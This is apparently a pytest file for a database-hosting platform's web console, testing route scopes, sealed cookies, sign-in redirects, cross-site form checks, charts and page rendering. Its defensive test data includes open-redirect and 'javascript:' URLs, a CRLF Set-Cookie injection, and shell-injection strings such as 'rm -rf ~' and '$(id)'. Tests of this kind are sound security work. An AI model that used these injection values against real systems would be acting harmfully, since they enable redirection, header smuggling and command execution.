"""The console without a server: what it says, whom it lets in, and what its pages may hold."""

import datetime as dt
import gzip
import html
import inspect
import re
import uuid
from collections.abc import Iterable, Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from fastapi.dependencies.models import Dependant
from fastapi.routing import APIRoute
from hypothesis import given
from hypothesis import strategies as st
from starlette.requests import Request
from starlette.responses import HTMLResponse

import tenantry
from database_rows import NOW, database_row, plan_row
from tenantry.api import app as api_app
from tenantry.base import sizes
from tenantry.base.errors import Conflict, InvalidInput, Unavailable
from tenantry.base.secrets import Seal, Secret
from tenantry.base.settings import Settings
from tenantry.control.audit import Actor
from tenantry.control.backup_schedules import Schedule
from tenantry.control.past_sessions import PastSession
from tenantry.pg.names import instances_of
from tenantry.pg.statement_statistics import StatementStatistics
from tenantry.services.access.service import Principal
from tenantry.services.advice.model import Finding, MissingIndex
from tenantry.services.advice.service import Advice
from tenantry.services.databases.hosts import Host
from tenantry.services.insights.model import Comparison as Insights
from tenantry.services.insights.model import Period, Statement, Statements
from tenantry.services.instances.model import Choices, InstanceUse
from tenantry.services.lost_rows.model import Comparison
from tenantry.services.moves.model import LeftOut, Preview
from tenantry.services.restores.model import Restorable
from tenantry.services.samples.series import Series
from tenantry.web import app as console
from tenantry.web import (
    assets,
    charts,
    cookies,
    database_pages,
    databases,
    navigation,
    pages,
    platform_pages,
    second_factor,
    strings,
    words,
)
from tenantry.web.routing import CrossSite, is_changed, require_same_origin, tags_of

TEMPLATES = Path(pages.__file__).parent / "templates"
HOUR = dt.timedelta(hours=1)

# The route of the API that does the same, for each of the console's.
SAME = {
    "GET /databases": "GET /api/databases",
    "GET /databases/new": "POST /api/databases",
    "POST /databases": "POST /api/databases",
    "GET /databases/{}": "GET /api/databases/{}",
    "GET /databases/{}/connect": "GET /api/databases/{}/connection-strings",
    "GET /databases/{}/connected": "GET /api/databases/{}/sessions",
    "GET /databases/{}/rotate-password": "POST /api/databases/{}/rotate-password",
    "POST /databases/{}/rotate-password": "POST /api/databases/{}/rotate-password",
    "GET /databases/{}/settings": "GET /api/databases/{}",
    "POST /databases/{}/settings": "PATCH /api/databases/{}",
    "GET /databases/{}/delete": "DELETE /api/databases/{}",
    "POST /databases/{}/delete": "DELETE /api/databases/{}",
    "GET /databases/{}/access": "GET /api/databases/{}/whitelist",
    "POST /databases/{}/whitelist": "POST /api/databases/{}/whitelist",
    "POST /databases/{}/whitelist/preview": "POST /api/databases/{}/whitelist/preview",
    "POST /databases/{}/whitelist/replace": "PUT /api/databases/{}/whitelist",
    "GET /databases/{}/whitelist/{}/remove": "DELETE /api/databases/{}/whitelist/{}",
    "POST /databases/{}/whitelist/{}/remove": "DELETE /api/databases/{}/whitelist/{}",
    "POST /databases/{}/roles": "POST /api/databases/{}/roles",
    "POST /databases/{}/roles/{}/delete": "DELETE /api/databases/{}/roles/{}",
    "POST /databases/{}/roles/{}/update": "PATCH /api/databases/{}/roles/{}",
    "POST /databases/{}/roles/{}/rotate-password": (
        "POST /api/databases/{}/roles/{}/rotate-password"
    ),
    "GET /databases/{}/metrics": "GET /api/databases/{}/metrics",
    "GET /databases/{}/instance": "GET /api/databases/{}/stats",
    "GET /databases/{}/configuration": "GET /api/databases/{}/settings",
    "POST /databases/{}/configuration": "PATCH /api/databases/{}/settings",
    "POST /databases/{}/size": "PATCH /api/databases/{}",
    "POST /databases/{}/start": "POST /api/databases/{}/start",
    "GET /databases/{}/stop": "POST /api/databases/{}/stop",
    "POST /databases/{}/stop": "POST /api/databases/{}/stop",
    "POST /databases/{}/restart": "POST /api/databases/{}/restart",
    "GET /databases/{}/move": "POST /api/databases/{}/move",
    "POST /databases/{}/move": "POST /api/databases/{}/move",
    "GET /databases/{}/logs": "GET /api/databases/{}/logs",
    "POST /databases/{}/logs/settings": "PUT /api/databases/{}/logs/settings",
    "GET /databases/{}/extensions": "GET /api/databases/{}/extensions",
    "POST /databases/{}/extensions": "POST /api/databases/{}/extensions",
    "POST /databases/{}/extensions/{}/remove": "DELETE /api/databases/{}/extensions/{}",
    "GET /databases/{}/backups": "GET /api/databases/{}/backups",
    "POST /databases/{}/backups": "POST /api/databases/{}/backups",
    "POST /databases/{}/backups/{}/delete": "DELETE /api/databases/{}/backups/{}",
    "GET /databases/{}/backups/{}/download": "GET /api/databases/{}/backups/{}/download",
    "POST /databases/{}/backups/{}/verify": "POST /api/databases/{}/backups/{}/verify",
    "POST /databases/{}/backups/schedule": "PUT /api/databases/{}/backups/schedule",
    "POST /databases/{}/backups/schedule/remove": "DELETE /api/databases/{}/backups/schedule",
    "GET /backup-schedules": "GET /api/backup-defaults",
    "POST /backup-schedules/{}": "PUT /api/backup-defaults/{}",
    "POST /databases/{}/drill": "POST /api/databases/{}/drill",
    "POST /databases/{}/restore": "POST /api/databases/{}/restore",
    "POST /databases/{}/marks": "POST /api/databases/{}/marks",
    "POST /databases/{}/marks/{}/delete": "DELETE /api/databases/{}/marks/{}",
    "GET /databases/{}/past": "GET /api/databases/{}/past",
    "POST /databases/{}/past": "POST /api/databases/{}/past",
    "POST /databases/{}/past/{}/sql": "POST /api/databases/{}/past/{}/sql",
    "POST /databases/{}/past/{}/end": "DELETE /api/databases/{}/past/{}",
    "POST /databases/{}/past/{}/comparisons": "POST /api/databases/{}/past/{}/comparisons",
    "GET /databases/{}/past/{}/comparisons/{}": (
        "GET /api/databases/{}/past/{}/comparisons/{}/rows"
    ),
    "POST /databases/{}/past/{}/comparisons/{}/bring-back": (
        "POST /api/databases/{}/past/{}/comparisons/{}/bring-back"
    ),
    "GET /databases/{}/branches": "GET /api/databases/{}/branches",
    "POST /databases/{}/branches": "POST /api/databases/{}/branches",
    "GET /databases/{}/branches/{}/diff": "GET /api/databases/{}/branches/{}/diff",
    "GET /databases/{}/branches/{}/reset": "POST /api/databases/{}/branches/{}/reset",
    "POST /databases/{}/branches/{}/reset": "POST /api/databases/{}/branches/{}/reset",
    "GET /databases/{}/promote": "POST /api/databases/{}/promote",
    "POST /databases/{}/promote": "POST /api/databases/{}/promote",
    "POST /databases/{}/masking": "PUT /api/databases/{}/masking",
    "GET /databases/{}/sql": "POST /api/databases/{}/sql",
    "POST /databases/{}/sql": "POST /api/databases/{}/sql",
    "GET /databases/{}/sql/texts": "GET /api/databases/{}/sql/texts",
    "POST /databases/{}/sql/texts": "PUT /api/databases/{}/sql/texts",
    "POST /databases/{}/sql/texts/{}/delete": "DELETE /api/databases/{}/sql/texts/{}",
    "GET /databases/{}/sql/names": "GET /api/databases/{}/sql/names",
    "POST /databases/{}/sql/branch": "POST /api/databases/{}/branches",
    "POST /databases/{}/explain": "POST /api/databases/{}/explain",
    "GET /databases/{}/rows": "POST /api/databases/{}/sql",
    "GET /databases/{}/rows/csv": "GET /api/databases/{}/rows/csv",
    "GET /databases/{}/rows/load": "POST /api/databases/{}/rows/csv",
    "POST /databases/{}/rows/csv": "POST /api/databases/{}/rows/csv",
    "GET /databases/{}/rows/edit": "POST /api/databases/{}/rows",
    "POST /databases/{}/rows/preview": "POST /api/databases/{}/rows",
    "POST /databases/{}/rows": "POST /api/databases/{}/rows",
    "GET /databases/{}/data-api": "GET /api/databases/{}/data-api",
    "POST /databases/{}/data-api": "PUT /api/databases/{}/data-api",
    "POST /databases/{}/data-api/rotate": "POST /api/databases/{}/data-api/rotate",
    "POST /databases/{}/data-api/tokens": "POST /api/databases/{}/data-api/tokens",
    "POST /databases/{}/data-api/disable": "DELETE /api/databases/{}/data-api",
    "GET /databases/{}/queries": "GET /api/databases/{}/queries",
    "POST /databases/{}/queries/reset": "POST /api/databases/{}/queries/reset",
    "GET /databases/{}/sessions": "GET /api/databases/{}/sessions",
    "GET /databases/{}/tables": "GET /api/databases/{}/tables",
    "POST /databases/{}/vacuum": "POST /api/databases/{}/vacuum",
    "POST /databases/{}/analyze": "POST /api/databases/{}/analyze",
    "POST /databases/{}/reindex": "POST /api/databases/{}/reindex",
    "POST /databases/{}/indexes": "POST /api/databases/{}/indexes",
    "POST /databases/{}/pool/reconnect": "POST /api/databases/{}/pool/reconnect",
    "POST /databases/{}/vacuum-full": "POST /api/databases/{}/vacuum-full",
    "GET /databases/{}/advice": "GET /api/databases/{}/advice",
    "POST /databases/{}/advice/mute": "POST /api/databases/{}/advice/mutes",
    "POST /databases/{}/advice/unmute": "DELETE /api/databases/{}/advice/mutes",
    "POST /databases/{}/sessions/{}/cancel": "POST /api/databases/{}/sessions/{}/cancel",
    "POST /databases/{}/sessions/{}/terminate": "POST /api/databases/{}/sessions/{}/terminate",
    "GET /databases/{}/migrations": "GET /api/databases/{}/migrations",
    "POST /databases/{}/migrations": "POST /api/databases/{}/migrations",
    "POST /migrations": "POST /api/migrations",
    "GET /blueprints": "GET /api/blueprints",
    "GET /blueprints/{}": "GET /api/blueprints/{}",
    "GET /databases/{}/blueprint": "GET /api/databases/{}/blueprint",
    "GET /databases/{}/blueprint/diff": "GET /api/databases/{}/blueprint/diff",
    "POST /databases/{}/blueprint": "POST /api/databases/{}/blueprint",
    "GET /migrations": "GET /api/operations",
    "GET /migrations/{}": "GET /api/migrations/{}",
    "GET /databases/{}/import": "POST /api/databases/{}/import",
    "POST /databases/{}/import": "POST /api/databases/{}/import",
    "POST /databases/{}/import/dump": "POST /api/databases/{}/import/preview",
    "POST /databases/{}/import/preview": "POST /api/databases/{}/import/preview",
    "GET /alerts": "GET /api/alerts",
    "POST /alerts/{}/acknowledge": "POST /api/alerts/{}/acknowledge",
    "POST /alerts/{}/mute": "POST /api/alerts/{}/mute",
    "POST /alerts/{}/resolve": "POST /api/alerts/{}/resolve",
    "GET /alerts/channels": "GET /api/alerts/channels",
    "POST /alerts/channels": "POST /api/alerts/channels",
    "POST /alerts/channels/{}/delete": "DELETE /api/alerts/channels/{}",
    "POST /alerts/channels/{}/test": "POST /api/alerts/channels/{}/test",
    "GET /databases/{}/alerts": "GET /api/databases/{}/alerts/settings",
    "POST /databases/{}/alerts": "PUT /api/databases/{}/alerts/settings",
    "GET /plans": "GET /api/plans",
    "POST /plans/{}": "PATCH /api/plans/{}",
    "GET /sites": "GET /api/sites",
    "POST /sites": "POST /api/sites",
    "POST /sites/{}/rotate": "POST /api/sites/{}/rotate",
    "POST /sites/{}/flush": "POST /api/sites/{}/flush",
    "POST /sites/{}/delete": "DELETE /api/sites/{}",
    "GET /sites/{}": "GET /api/sites/{}/report",
    "POST /sites/{}/hits/{}/judge": "POST /api/sites/{}/hits/{}/feedback",
    "POST /sites/{}/certify": "POST /api/sites/{}/certify",
    "GET /sites/{}/keys": "GET /api/sites/{}/keys",
    "GET /sites/{}/access": "GET /api/sites/{}/whitelist",
    "POST /sites/{}/whitelist": "POST /api/sites/{}/whitelist",
    "POST /sites/{}/whitelist/preview": "POST /api/sites/{}/whitelist/preview",
    "POST /sites/{}/whitelist/replace": "PUT /api/sites/{}/whitelist",
    "GET /sites/{}/whitelist/{}/remove": "DELETE /api/sites/{}/whitelist/{}",
    "POST /sites/{}/whitelist/{}/remove": "DELETE /api/sites/{}/whitelist/{}",
    "GET /sites/{}/backups": "GET /api/sites/{}/backups",
    "POST /sites/{}/backups": "POST /api/sites/{}/backups",
    "POST /sites/{}/backups/{}/delete": "DELETE /api/sites/{}/backups/{}",
    "POST /sites/{}/restore": "POST /api/sites/{}/restore",
    "GET /sites/{}/settings": "GET /api/sites/{}/proxy",
    "POST /sites/{}/settings": "PATCH /api/sites/{}",
    "POST /sites/{}/proxy": "PATCH /api/sites/{}/proxy",
    "GET /cache-prices": "GET /api/cache-prices",
    "POST /cache-prices": "PUT /api/cache-prices",
    "POST /cache-prices/remove": "PUT /api/cache-prices",
    "GET /platform": "GET /api/pooler",
    "GET /clusters": "GET /api/clusters",
    "POST /clusters": "POST /api/clusters",
    "GET /clusters/{}": "GET /api/clusters/{}/backups",
    "POST /clusters/{}/backups": "POST /api/clusters/{}/backups",
    "POST /clusters/{}/verify": "POST /api/clusters/{}/backups/verify",
    "POST /clusters/{}/restore": "POST /api/clusters/{}/restore",
    "GET /users": "GET /api/users",
    "POST /users": "POST /api/users",
    "GET /users/{}": "GET /api/users/{}",
    "POST /users/{}/update": "PATCH /api/users/{}",
    "POST /users/{}/unlock": "POST /api/users/{}/unlock",
    "POST /users/{}/reset-password": "POST /api/users/{}/reset-password",
    "POST /users/{}/remove-totp": "POST /api/users/{}/remove-totp",
    "POST /users/{}/delete": "DELETE /api/users/{}",
    "GET /customers": "GET /api/customers",
    "POST /customers/{}/update": "PATCH /api/customers/{}",
    "POST /customers/{}/remove": "DELETE /api/customers/{}",
    "GET /keys": "GET /api/api-keys",
    "POST /keys": "POST /api/api-keys",
    "POST /keys/{}/revoke": "DELETE /api/api-keys/{}",
    "GET /audit": "GET /api/audit-logs",
    "GET /audit/export": "GET /api/audit-logs/export",
    "GET /operations": "GET /api/operations",
    "GET /databases/{}/operations": "GET /api/operations",
    "POST /operations/{}/cancel": "POST /api/operations/{}/cancel",
    "POST /operations/{}/abandon": "POST /api/operations/{}/abandon",
    "GET /account": "GET /api/auth/me",
    "POST /account/password": "POST /api/auth/password",
    "POST /account/totp": "POST /api/auth/totp",
    "POST /account/totp/confirm": "POST /api/auth/totp/confirm",
    "POST /account/totp/remove": "POST /api/auth/totp/remove",
    "POST /account/recovery-codes": "POST /api/auth/recovery-codes",
    "POST /account/sessions/{}/end": "DELETE /api/auth/sessions/{}",
}
# Routes of the API whose answers are parts of a page, by that page.
SHOWN = {
    "GET /api/auth/sessions": "GET /account",
    "GET /api/customers/{}": "GET /customers",
    "GET /api/databases/{}/backups/schedule": "GET /databases/{}/backups",
    "GET /api/databases/{}/backups/{}": "GET /databases/{}/backups",
    "GET /api/databases/{}/locks": "GET /databases/{}/sessions",
    "GET /api/databases/{}/logs/settings": "GET /databases/{}/logs",
    "GET /api/databases/{}/marks": "GET /databases/{}/backups",
    "GET /api/databases/{}/masking": "GET /databases/{}/branches",
    "GET /api/databases/{}/past/{}/comparisons/{}": "GET /databases/{}/past/{}/comparisons/{}",
    "GET /api/databases/{}/past/{}/tables": "GET /databases/{}/past",
    "GET /api/databases/{}/proofs": "GET /databases/{}/backups",
    "GET /api/databases/{}/replaced": "GET /databases/{}/backups",
    "GET /api/databases/{}/roles": "GET /databases/{}/access",
    "GET /api/databases/{}/roles/{}": "GET /databases/{}/access",
    "GET /api/databases/{}/timeline": "GET /databases/{}/backups",
    "GET /api/databases/{}/vacuum-full": "GET /databases/{}/tables",
    "GET /api/metrics/latest": "GET /databases",
    "GET /api/metrics/sparklines": "GET /databases/{}",
    "GET /api/operations/{}": "GET /operations",
    "GET /api/sites/{}": "GET /sites/{}/settings",
    "GET /api/sites/{}/analytics": "GET /sites/{}",
    "GET /api/sites/{}/hits": "GET /sites/{}",
    "GET /api/sites/{}/semantic": "GET /sites/{}",
    "GET /api/sites/{}/stats": "GET /sites/{}",
    "GET /api/versions": "GET /databases/new",
}
# The rest of the API, which no page has, and why.
PROGRAMS = {
    "POST /api/auth/login": "the console signs in by itself: POST /sign-in",
    "POST /api/auth/mfa": "the console signs in by itself: POST /sign-in/code",
    "POST /api/auth/logout": "the console signs out by itself: POST /sign-out",
    "GET /api/databases/{}/metrics/prometheus": "for Prometheus",
    "GET /ca.crt": "a file, which pages link to",
    "GET /health": "for supervisors",
    "GET /metrics": "for Prometheus",
    "GET /ready": "for load balancers; GET /platform shows the same",
}
# They come before a caller is known.
OPEN = {
    "GET /",
    "GET /sign-in",
    "POST /sign-in",
    "POST /sign-in/code",
    "POST /sign-out",
    "GET /assets/{}",
    "GET /assets/{}/{}",
}


def scopes(needed: Dependant) -> Iterator[str | None]:
    """The scopes that a route requires of its caller."""
    for each in needed.dependencies:
        if each.call is not None and "calling.<locals>" in getattr(each.call, "__qualname__", ""):
            yield inspect.getclosurevars(each.call).nonlocals.get("scope")
        yield from scopes(each)


def routes(modules: Iterable[Any]) -> dict[str, set[str | None]]:
    """The scopes of each route of the API's or the console's modules."""
    return {
        f"{method} {re.sub('{[^}]*}', '{}', route.path)}": set(scopes(route.dependant))
        for module in modules
        for route in module.router.routes
        if isinstance(route, APIRoute)
        for method in route.methods or ()
    }


def test_each_page_needs_the_scope_of_the_same_route_of_the_api() -> None:
    own, api = routes((*console._PAGES, assets)), routes(api_app._RESOURCES)
    assert own.keys() == SAME.keys() | OPEN
    assert {name: own[name] for name in SAME} == {name: api[same] for name, same in SAME.items()}
    assert not any(own[name] for name in OPEN)


def test_a_page_has_whatever_the_api_offers() -> None:
    api = set(routes(api_app._RESOURCES))
    assert SHOWN.keys() | PROGRAMS.keys() == api - set(SAME.values())
    assert set(SHOWN.values()) <= SAME.keys()


# ── cookies and redirections ─────────────────────────────────────────────────


def test_the_cookie_shows_nothing_and_ends() -> None:
    seal = Seal(Seal.new_key())
    value = cookies.written(seal, Secret("tnt_key"), NOW + HOUR)
    assert "tnt_" not in value
    assert cookies.read(seal, value, NOW) == Secret("tnt_key")
    assert cookies.read(seal, value, NOW + HOUR) is None
    assert cookies.read(Seal(Seal.new_key()), value, NOW) is None


@given(st.text(max_size=200))
def test_any_other_cookie_is_ignored(value: str) -> None:
    assert cookies.read(Seal(bytes(32)), value, NOW) is None


@pytest.mark.parametrize("path", ["/", "/databases?search=a&cursor=b", "/databases/1/access"])
def test_signing_in_leads_back(path: str) -> None:
    assert pages.own_path(path) == path


@pytest.mark.parametrize(
    "text",
    [
        "",
        "databases",
        "//evil.example",
        "//[",
        "http://[",
        "/\\evil.example",
        "\\\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/\t/evil.example",
        "/a\r\nSet-Cookie: a=b",
        "/ä",
    ],
)
def test_signing_in_leads_to_no_other_site(text: str) -> None:
    assert pages.own_path(text) == "/"


def request(**headers: str) -> Request:
    raw = [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()]
    return Request({"type": "http", "method": "POST", "path": "/", "headers": raw})


@pytest.mark.parametrize(
    ("here", "way_in"),
    [
        ("https://a.example/databases?limit=9", "/sign-in?next=%2Fdatabases%3Flimit%3D9"),
        ("https://[", "/sign-in"),
        ("", "/sign-in"),
    ],
)
def test_a_script_is_led_to_sign_in_wherever_it_says_it_is(here: str, way_in: str) -> None:
    answer = pages.to_sign_in(request(hx_request="true", hx_current_url=here))
    assert answer.headers["hx-redirect"] == way_in


def test_addresses_have_the_prefix_of_a_proxy() -> None:
    asked = request(host="a.example", hx_request="true", hx_current_url="https://a.example/t/keys")
    asked.state.prefix = "/t"
    assert pages.go(asked, "/databases").headers["hx-redirect"] == "/t/databases"
    assert pages.to_sign_in(asked).headers["hx-redirect"] == "/t/sign-in?next=%2Fkeys"
    assert pages.origin(asked) == "http://a.example/t"
    page = '<a href="/keys" hx-get="/keys">"/keys"</a><input name="back" value="/keys">'
    assert pages.prefixed(page, "/t") == page.replace(
        '="/keys" hx-get="', '="/t/keys" hx-get="/t', 1
    )
    assert pages.prefixed(page, "") == page


@pytest.mark.parametrize("path", sorted(TEMPLATES.glob("*.html")), ids=lambda path: path.name)
def test_no_address_of_a_template_is_without_the_prefix(path: Path) -> None:
    no_addresses = {"aria-keyshortcuts", "d", "value"}  # a form's value returns to us
    beginning = r"\b([\w-]+)=\"(?:/|{{ (?:path|here|onward|first|following|each\.path|link)\b)"
    for name in re.findall(beginning, path.read_text()):
        assert name in no_addresses or pages._ADDRESS.search(f'{name}="/')


@pytest.mark.parametrize(
    "headers",
    [
        {"sec_fetch_site": "same-origin"},
        {"origin": "http://a.example:3000", "host": "a.example:3000"},
    ],
)
def test_forms_of_our_pages_are_taken(headers: dict[str, str]) -> None:
    require_same_origin(request(**headers))


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"sec_fetch_site": "cross-site"},
        {"sec_fetch_site": "same-site"},
        {"sec_fetch_site": "none"},
        {"sec_fetch_site": "cross-site", "origin": "http://a.example", "host": "a.example"},
        {"origin": "http://evil.example", "host": "a.example"},
        {"origin": "null", "host": "a.example"},
    ],
)
def test_forms_of_other_sites_are_refused(headers: dict[str, str]) -> None:
    with pytest.raises(CrossSite):
        require_same_origin(request(**headers))


# ── words ────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("differing", "word", "tone"),
    [
        ({}, "Ready", "ok"),
        ({"status": "deleting"}, "Being deleted", "info"),
        ({"missing_since": NOW, "quota_state": "warning"}, "Missing", "bad"),
        ({"quota_state": "read_only"}, "Read-only: full", "bad"),
        ({"quota_state": "read_only", "held": True}, "Read-only: disk full", "bad"),
        ({"quota_state": "warning", "status_detail": "role missing"}, "Almost full", "warn"),
        ({"status_detail": "role missing"}, "Needs attention", "warn"),
        ({"paused_until": NOW + HOUR, "paused_for": "wal"}, "Paused", "bad"),
        ({"paused_until": NOW - HOUR, "paused_for": "wal"}, "Ready", "ok"),
        ({"wanted": "stopped", "quota_state": "warning"}, "Stopped", "off"),
    ],
)
def test_the_state_is_in_words(differing: dict[str, object], word: str, tone: str) -> None:
    found = words.state_of(database_row("a", **differing), NOW)
    assert (found.word, found.tone) == (word, tone)
    assert (found.detail is None) == (tone in {"ok", "info"})


def test_sizes_are_as_on_the_command_line() -> None:
    (found,) = charts.of([Series("size_bytes", "bytes", [1_572_864])])
    assert found.last == sizes.readable(1_572_864) == "1.5 MiB"


@pytest.mark.parametrize(
    ("host", "text"),
    [
        ("a.example:3000", "http://a.example:3000"),
        ("[::1]:3000", "http://[::1]:3000"),
        ("a.example; rm -rf ~", ""),
        ("$(id)", ""),
    ],
)
def test_commands_name_the_host_that_the_browser_asks(host: str, text: str) -> None:
    assert pages.origin(request(host=host)) == text


@pytest.mark.parametrize(
    ("past", "text"),
    [(5, "5 s ago"), (119, "119 s ago"), (7200, "2 h ago"), (-90 * 60, "in 90 min")],
)
def test_times_are_ages(past: float, text: str) -> None:
    assert words.ago(NOW - dt.timedelta(seconds=past), NOW) == text


@pytest.mark.parametrize(
    ("used", "watched", "text"),
    [(HOUR, HOUR, "60 min ago"), (None, 3 * HOUR, "no use seen in 3 h"), (None, None, "unknown")],
)
def test_what_was_not_watched_is_not_said_to_be_unused(
    used: dt.timedelta | None, watched: dt.timedelta | None, text: str
) -> None:
    row = database_row(
        "abcdefghjkmn",
        last_active_at=used and NOW - used,
        watched_since=watched and NOW - watched,
    )
    assert words.last_used(row, NOW) == text


def test_every_kind_of_operation_has_a_title() -> None:
    sources = (Path(tenantry.__file__).parent / "services").rglob("*.py")
    kinds = {
        kind for path in sources for kind in re.findall(r'Kind\(\s*"([^"]+)"', path.read_text())
    }
    assert len(kinds) > 10
    assert kinds <= words._OPERATIONS.keys()


def test_strings_are_offered_for_each_client() -> None:
    row = database_row("abcdefghjkmn")
    settings = Settings(home=Path("/nowhere"), domain="db.example.com")
    offered = {each.title: each for each in strings.of_database(settings, row, "pa55")}
    assert list(offered)[:3] == ["psql", ".env", "Prisma"]
    assert offered["psql"].direct.startswith(
        "postgresql://user_abcdefghjkmn:pa55@db.example.com:5432/"
    )
    assert ":6432/" in offered["psql"].pooled
    assert offered[".env"].direct.startswith('DATABASE_URL="postgresql://')
    assert "SHADOW_DATABASE_URL" in offered["Prisma"].direct


# ── charts ───────────────────────────────────────────────────────────────────


def test_a_line_goes_from_zero_to_the_maximum() -> None:
    assert charts.path([0, 5, 10]) == "M0.0 46.0L120.0 24.0L240.0 2.0"
    assert charts.path([0, 0]) == "M0.0 46.0L240.0 46.0"
    # What is not known is a gap, and what is known alone a dot.
    assert charts.path([4, None, 4, 4]) == "M0.0 2.0L0.0 2.0M160.0 2.0L240.0 2.0"
    assert charts.path([None, None]) == charts.path([]) == ""


@given(st.lists(st.one_of(st.none(), st.floats(0, 1e15)), max_size=400))
def test_a_line_is_within_its_picture(values: list[float | None]) -> None:
    drawn = charts.path(values)
    assert re.fullmatch(r"[ML0-9. ]*", drawn)
    points = [point.split(" ") for point in re.split("[ML]", drawn) if point]
    assert all(0 <= float(x) <= charts.WIDTH and 0 <= float(y) <= charts.HEIGHT for x, y in points)


def test_charts_are_in_words_and_only_of_what_is_known() -> None:
    found = charts.of(
        [
            Series("transactions", "transactions/s", [1234.5, 0.25]),
            Series("connections", "connections", [None, 12, 3, None]),
            Series("size_bytes", "bytes", [None, None]),
        ]
    )
    assert [(each.title, each.last, each.most) for each in found] == [
        ("Connections", "3", "12"),
        ("Transactions", "0.25/s", "1,234/s"),
    ]


def test_every_series_has_a_chart_in_its_unit() -> None:
    found = charts.every(
        [
            Series("wal_bytes", "bytes/s", [1024.0]),
            Series("cache_hit_ratio", "ratio", [0.5, None]),
            Series("pooled_wait_ms", "ms", [0.25]),
            Series("longest_transaction_seconds", "seconds", [600]),
            Series("deadlocks", "deadlocks", [2]),
        ]
    )
    assert [(each.title, each.last) for each in found] == [
        ("Wal bytes", "1 KiB/s"),
        ("Cache hit ratio", "50.0 %"),
        ("Pooled wait", "0.25 ms"),
        ("Longest transaction seconds", "10 min"),
        ("Deadlocks", "2"),
    ]


def test_writes_have_charts_beside_the_timeline() -> None:
    series = [Series("rows_read", "rows/s", [9]), Series("rows_deleted", "rows/s", [None, 3])]
    assert [(each.title, each.last) for each in charts.writes(series)] == [("Rows deleted", "3/s")]


# ── pages ────────────────────────────────────────────────────────────────────


ODD = "it's; rm -rf ~ <b>"


def rendered(template: str, **values: object) -> str:
    """A page of one database, whose friendly name is odd, for somebody who may change it."""
    row = database_row("abcdefghjkmn", name=None, friendly_name=ODD)
    return pages._templates.get_template(template).render(
        **{
            "row": row,
            "path": f"/databases/{row.id}",
            "groups": {},
            "tab": "",
            "may_write": True,
            "problem": None,
            "me": None,
            "done": None,
            "now": NOW,
            "ago": lambda moment: words.ago(moment, NOW),
            "last_used": lambda row: words.last_used(row, NOW),
            "state_of": lambda row: words.state_of(row, NOW),
            **values,
        }
    )


def commands(page: str) -> list[str]:
    return [line for line in html.unescape(page).splitlines() if line.startswith("<pre>tenantry ")]


@pytest.mark.parametrize("values", [[1, 2], []])
def test_the_overview_has_charts_of_what_was_sampled(values: list[float]) -> None:
    page = rendered(
        "database.html",
        stats=None,
        window=None,
        proof=None,
        operations=[],
        offered={"direct": "", "pooled": ""},
        charts=charts.of([Series("connections", "connections", values)]),
    )
    assert ("Metrics" in page) == bool(values)
    assert re.findall(r'<path d="([^"]*)"', page) == ([charts.path(values)] if values else [])
    assert ("Connections of the last day: at most 2, 2 in its last hour" in page) == bool(values)


INSTANCE = {
    "kind": "dedicated",
    "cluster": instances_of("tenant_abcdefghjkmn")[0],
    "container_name": "app-production-postgres",
    "memory_mb": 256,
    "cpus": 1.5,
}


def instance_page(use: InstanceUse | None, **differing: Any) -> str:
    operations = differing.pop("operations", [])
    return rendered(
        "database_instance.html",
        row=database_row("abcdefghjkmn", **INSTANCE | differing),
        use=use,
        doing=words.instance_state(use.status if use else None, operations),
        operations=operations,
        enforced=False,
        host=Host("example.com", 5500, "The certificate is not for it."),
    )


def buttons(page: str) -> list[str]:
    return re.findall(r'type="submit">(Start|Restart|Stop…)</button>', page)


def test_an_instance_that_runs_has_what_it_takes_and_can_be_stopped() -> None:
    page = instance_page(
        InstanceUse(
            "running",
            None,
            size_bytes=2**20,
            connections=3,
            cpu_percent=12.5,
            memory_bytes=64 * 2**20,
            memory_limit_bytes=2**28,
            started_at=NOW - 3 * HOUR,
            unmanaged=["<b>"],
        )
    )
    assert buttons(page) == ["Restart", "Stop…"]
    for said in ("Running", "for 3 h", "12.5 %", "64 MiB", "of 256 MiB", "does not enforce it"):
        assert said in page
    assert "<code>example.com</code>" in page
    assert "The certificate is not for it." in page
    assert re.findall(r'<data value="([^"]*)">', page) == ["12.5", "67108864", "3"]
    assert "<code>&lt;b&gt;</code>" in page
    assert commands(page) == [
        f"<pre>tenantry db {verb} app</pre>" for verb in ("stats", "start", "stop", "restart")
    ]


@pytest.mark.parametrize("may_write", [True, False])
def test_the_sizes_of_plans_are_changed_by_administrators(may_write: bool) -> None:
    plan = plan_row(max_instances=3, instance_cpus=1.5, instance_memory_mb=1024, site_memory_mb=32)
    page = rendered(
        "plans.html", plans=[plan], default_plan="small", default_sites=10, may_write=may_write
    )
    (row,) = re.findall(r'<tr><th scope="row">small</th>(.*)</tr>', page)
    cells = ["3", "1.5", "1,024 MiB", "10", "32 MiB", "no limit"]
    assert re.findall("<td>(.*?)</td>", row) == cells
    values = dict(re.findall(r'name="(\w+)" type="number" [^>]*value="([^"]*)"', page))
    assert values == (
        {
            "max_instances": "3",
            "instance_cpus": "1.5",
            "instance_memory_mb": "1024",
            "max_sites": "",
            "site_memory_mb": "32",
            "site_max_clients": "",
        }
        if may_write
        else {}
    )


def test_only_the_sizes_that_were_changed_in_the_form_are_changed() -> None:
    plan = plan_row(max_instances=3, site_memory_mb=32, site_max_clients=100)
    page = rendered(
        "plans.html", plans=[plan], default_plan="small", default_sites=10, may_write=True
    )
    fields = re.findall(r'<input [^>]*?name="(\w+)"[^>]* value="([^"]*)"', page)
    sent = {name: value for name, value in fields if value}
    assert {"was_max_instances": "3", "max_instances": "3"}.items() <= sent.items()
    assert platform_pages._sizes(sent) == {}
    del sent["site_max_clients"]
    assert platform_pages._sizes(sent | {"max_sites": "7"}) == {
        "max_sites": "7",
        "site_max_clients": None,
    }


def test_the_settings_of_a_database_are_sent_with_what_they_were() -> None:
    granted = plan_row(disk_quota_bytes=10 * 2**30, max_connections=20)
    row = database_row(disk_quota_bytes=3 * 2**29, max_connections=50)
    page = rendered("database_settings.html", row=row, plans=["small", "standard"], granted=granted)
    shown = dict(re.findall(r'<input type="hidden" name="was_(\w+)" value="([^"]*)">', page))
    assert shown == {
        "name": "app",
        "friendly_name": "App",
        "environment": "production",
        "plan": "standard",
        "tags": "",
        "disk_gib": "1.5",
        "max_connections": "50",
    }
